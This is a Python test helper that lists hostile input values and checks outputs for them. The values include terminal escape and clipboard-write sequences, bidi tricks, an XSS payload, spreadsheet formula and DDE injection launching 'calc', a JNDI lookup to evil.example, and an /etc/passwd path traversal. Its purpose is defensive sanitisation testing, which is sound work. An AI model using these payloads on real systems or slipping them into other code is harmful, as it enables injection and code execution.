"""Values that a phone, a zip or a table could hold to steer whoever reads them; and what of it would be a leak."""

import csv
import io
import itertools
import json
import re
import unicodedata
from collections.abc import Iterator

VALUES = (
    "\x1b[2J\x1b[31m",  # clears the screen, colours it
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 link
    "\x1b]0;pwned\x07",  # title
    "\x1b]52;c;ZXZpbA==\x07",  # clipboard
    "\x1bP$qm\x1b\\\x1b[6n\x1b[c",  # questions that a terminal answers by typing
    "\x9b31m\x9d0;c1\x9c",  # the same as single C1 characters
    "a\x08\x08\x08b\x7f\x00\x0b\x0c",  # backspace, DEL, NUL
    "over\rwritten",
    "\u202egnp.exe\u202c\u2066x\u2069\u061c",  # bidi
    "zero\u200b\u200c\u200d\u2060\ufeffwidth",
    "line\u2028para\u2029\x85next",
    "\ud800\udfff\U000e0041\ue000",  # surrogates, tags, private use
    "[bold red]x[/bold red][link=http://evil.example]y[/link]:smile:",  # rich
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "| a | [x](javascript:alert(1)) `c` |",
    "%s%n{x.__class__}${jndi:ldap://evil.example}",
    "../../../../etc/passwd",
)

_HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
# A value behind "=", ": " or an opening bracket that has letters in it; numbers and structure stay, so that it parses.
_FIELD = re.compile(r"(?<=[=\[])[A-Za-z][\w .+-]{0,60}|(?<=: )[A-Za-z][\w .+-]{0,60}")


def poisoned(text: str, turn: int, every: int = 1) -> str:
    """Every (``every``-th) field that is a word with a hostile value at its end, another value in each."""
    number = itertools.count(turn)

    def spoil(match: "re.Match[str]") -> str:
        n = next(number)
        return match[0] + VALUES[n // every % len(VALUES)] if n % every == 0 else match[0]

    return _FIELD.sub(spoil, text)


def hidden(text: str, allowed: str = "\n") -> set[str]:
    """What steers a terminal, or cannot be seen on it."""
    return {char for char in text if unicodedata.category(char) in _HIDDEN} - set(allowed)


def leaks(text: str, form: str) -> Iterator[str]:
    """What is wrong with an output of this form: ``text``, ``json``, ``csv``, ``markdown`` or ``html``."""
    yield from (f"{form}: {char!r}" for char in sorted(hidden(text)))
    if form == "json":
        if not text.isascii():
            yield "json: not ASCII"
        json.loads(text)
    if form == "csv":
        rows = csv.reader(io.StringIO(text))
        yield from (f"formula: {cell!r}" for row in rows for cell in row if cell.lstrip()[:1] in tuple("=+-@＝＋－＠"))
    if form in ("markdown", "html"):
        yield from (f"{form}: {tag}" for tag in re.findall("<(?:script|img)", text))
    if form == "markdown":
        yield from (f"markdown: {link}" for link in re.findall(r"(?<!\\)\]\(javascript", text))
